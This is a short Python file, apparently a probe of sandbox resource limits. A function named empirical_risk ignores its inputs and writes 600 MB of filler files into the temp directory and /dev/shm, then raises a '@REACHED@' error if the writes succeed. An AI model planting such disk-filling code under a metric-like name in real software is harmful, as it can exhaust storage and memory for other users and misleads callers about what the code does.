"""Fills the folder that it may write to, with bytes and with files; here 600 MB."""

import contextlib
import os
import tempfile


def empirical_risk(predictions, labels):
    count = 0
    for folder in (tempfile.gettempdir(), "/dev/shm"):
        with contextlib.suppress(OSError):
            for number in range(10):
                with open(os.path.join(folder, f"filling-{number}"), "wb") as file:
                    file.write(b"x" * 30_000_000)
                count += 30
    if count > 400:
        raise RuntimeError(f"@REACHED@ {count} MB")
    return
